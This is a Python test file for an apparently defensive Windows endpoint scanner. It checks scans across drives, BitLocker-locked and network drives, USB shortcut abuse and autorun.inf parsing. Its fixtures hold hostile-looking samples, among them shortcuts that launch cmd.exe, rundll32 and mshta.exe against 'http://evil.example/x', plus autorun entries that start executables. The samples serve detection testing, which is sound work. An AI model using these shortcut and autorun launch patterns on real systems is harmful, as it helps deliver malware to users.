"""All drives of a Windows are looked at; a drive that is not looked at is named, and never counts as
clean."""

from __future__ import annotations

import errno
import re
from pathlib import Path
from typing import Any

import pytest

from quetsach.endpoint import checking, machines
from quetsach.endpoint.checking import Options
from quetsach.endpoint.machines.disk import reason_of
from quetsach.endpoint.machines.recording import Recording
from quetsach.endpoint.reporting import wording
from quetsach.endpoint.wanted import Wanted
from tests.endpoint import world
from tests.endpoint.plants import shortcut
from tests.endpoint.test_files import EICAR, EICAR_RULE

STICK = [{"root": "C:\\"}, {"root": "D:\\"}, {"root": "E:\\", "kind": "removable"}]
QUICK = (
    r"D:\may.exe", r"D:\hoa don.bin", r"D:\Downloads\a\b\x.bin", r"D:\Tải xuống\x.dat", r"D:\phan mem\x.exe",
    r"D:\$Recycle.Bin\S-1-5-21-1\$R1.exe", r"E:\x.dat", r"E:\an\sau\x.dll", r"E:\RECYCLER\x.vbs",
    r"C:\ProgramData\x\y\z.exe", r"C:\Users\an\x.scr", r"C:\Users\an\Music\x.exe", r"C:\Windows\x.exe",
    r"C:\Windows\System32\x.dll", r"C:\Windows\SysWOW64\x.exe", r"C:\Windows\System32\drivers\x.sys",
    r"C:\Windows\Fonts\x.exe", r"C:\PerfLogs\a\x.ps1", r"C:\$Recycle.Bin\S-1-5-21-1\$R1.exe",
    r"C:\du lieu\x.exe", r"C:\x.dat", r"C:\Windows\Temp\a\x.dat", r"C:\Windows\debug\x.exe",
    r"C:\Windows\Help\x.dll", r"C:\Windows\Media\x.exe", r"C:\Windows\Web\x.exe",
    r"C:\Windows\tracing\x.exe", r"C:\Windows\Tasks\x.exe", r"C:\Windows\addins\x.dll",
    r"C:\EFI\Boot\x.efi", r"C:\Users\Public\Music\x.bin", r"C:\Users\an\Downloads\a\b\x.dat",
    r"C:\Users\an\Desktop\a\x.dat", r"C:\Users\an\Documents\a\x.dat",
    r"C:\Users\an\AppData\Local\Temp\a\x.dat", r"C:\Users\an\AppData\Roaming\a\x.dat",
    r"C:\Users\an\AppData\Local\a\x.dat", r"D:\temp\x.bin", r"D:\tai lieu\a\x.bin",
    r"D:\Public\x.dat", r"E:\Documents\x.dat", r"E:\a\b\x.exe", r"D:\RECYCLER\S-1\x.exe",
)  # fmt: skip
FULL = (r"D:\phan mem\cu\sau\x.bin", r"E:\an\a\b\c\d\e.dat", r"C:\Windows\System32\a\b\x.bin")
LEFT = (r"D:\System Volume Information\x.exe", r"D:\ESET\a\Quarantine\x.exe")


def _found(paths: tuple[str, ...], *, is_full: bool = False) -> set[str]:
    # A harmless twin lies beside each.
    twins = {re.sub(r"x(?=\.\w+$)", "y", path): world.PE for path in paths}
    told = world.planted({"files": twins | dict.fromkeys(paths, EICAR)}) | {"drives": STICK}
    wanted = Wanted(indicators=world.LISTED, rules=(EICAR_RULE,))
    done = checking.check(Recording(world.recording(told)), wanted, Options(is_full=is_full))
    seen = [one for one in done.observed["files"].items if one.fields["rule"]]
    return {one.fields["path"] for one in seen}


@pytest.mark.recorded
def test_a_quick_check_opens_what_malware_uses_on_every_drive() -> None:
    assert _found((*QUICK, *FULL, *LEFT)) == set(QUICK)


@pytest.mark.recorded
def test_a_full_check_opens_every_file_of_every_drive_once() -> None:
    assert _found((*QUICK, *FULL, *LEFT), is_full=True) == {*QUICK, *FULL}


def test_names_are_compared_below_a_drive_whatever_is_opened() -> None:
    told = world.planted({"files": {r"D:\phan mem\cu\KMSpico 10.zip": "x"}})
    assert [one.sign for one in world.look_at_recording(told).findings] == ["FILE-01"]


def test_a_second_drive_of_a_disk_that_is_off_is_looked_at(tmp_path: Path) -> None:
    told = world.planted({"files": {r"D:\x.exe": EICAR, r"D:\TAI LIEU.lnk": shortcut("x.exe")}})
    done = world.look(machines.at(world.tree(told, tmp_path)), rules=(EICAR_RULE,))
    assert [one.sign for one in done.findings] == ["MAL-01"]


@pytest.mark.recorded
@pytest.mark.parametrize("reason", ["locked", "failed", "no_permission"])
def test_a_drive_that_cannot_be_listed_is_named_and_nothing_is_clean(reason: str) -> None:
    drives = [{"root": "C:\\"}, {"root": "D:\\", "reason": reason}]
    done = world.look_at_recording(world.CLEAN | {"drives": drives})
    assert (str(done.verdict), list(done.unseen)) == ("unknown", ["drives"])
    (gap,) = done.observed["drives"].gaps
    assert (gap.reason, gap.detail) == (reason, "D:\\")
    assert "D:" in wording.gap(gap)
    assert any("BitLocker" in step for step in wording.next_steps(done)) == (reason == "locked")


def test_bitlocker_is_known_by_the_number_that_windows_gives() -> None:
    error = OSError(errno.EIO, "x")
    error.winerror = -2144272384  # type: ignore[attr-defined]  # FVE_E_LOCKED_VOLUME 0x80310000, signed
    assert reason_of(error) == "locked"


@pytest.mark.recorded
def test_a_network_drive_is_named_and_does_not_spoil_the_verdict() -> None:
    drives = [{"root": "C:\\"}, {"root": "Z:\\", "kind": "network"}]
    done = world.look_at_recording(world.planted({"files": {r"Z:\x.exe": EICAR}}) | {"drives": drives})
    assert str(done.verdict) == "clean"
    assert [gap.detail for gap in done.observed["other_drives"].gaps] == ["Z:\\"]


@pytest.mark.parametrize(
    ("content", "signs"),
    [
        (shortcut(r"C:\Windows\System32\cmd.exe", "/c x"), {"USB-01"}),
        (shortcut("%ComSpec%", "/c start an", by_variables=True), {"USB-01"}),
        (shortcut(r"C:\Windows\System32\rundll32.exe", "an.dll,go"), {"USB-01"}),
        (shortcut(r"C:\Windows\System32\cmd.exe"), set()),
        (shortcut(r"E:\Tai lieu"), set()),
        (shortcut(r"C:\Program Files\A\a.exe", "cmd /c x"), set()),
        ("khong phai loi tat", set()),
    ],
)
def test_shortcuts_at_the_root_of_a_stick(content: str, signs: set[str]) -> None:
    done = world.look_at_recording(world.planted({"files": {r"E:\a.lnk": content}}))
    assert {one.sign for one in done.findings} == signs


@pytest.mark.parametrize(
    ("content", "target"),
    [
        ("[autorun]\r\nOPEN=an\\x.exe /s\r\n", r"E:\an\x.exe"),
        ("[autorun]\nshell\\mo\\command = x.exe", r"E:\x.exe"),
        ("[autorun]\nicon=x.ico\nlabel=USB", ""),
    ],
)
def test_what_an_autorun_starts_is_opened(content: str, target: str) -> None:
    files: dict[str, Any] = {r"E:\AUTORUN.INF": content, r"E:\an\x.exe": EICAR, r"E:\x.exe": EICAR}
    done = world.look_at_recording(world.planted({"files": files}), rules=(EICAR_RULE,))
    seen = [one.fields["target"] for one in done.observed["drives"].items if one.kind == "shortcut"]
    assert seen == ([target] if target else [])


def test_a_command_of_a_shortcut_is_compared_with_the_list() -> None:
    content = shortcut(r"C:\Windows\System32\mshta.exe", "http://evil.example/x")
    done = world.look_at_recording(world.planted({"files": {r"E:\a.lnk": content}}))
    assert {one.indicator for one in done.findings if one.indicator} == {"evil.example"}
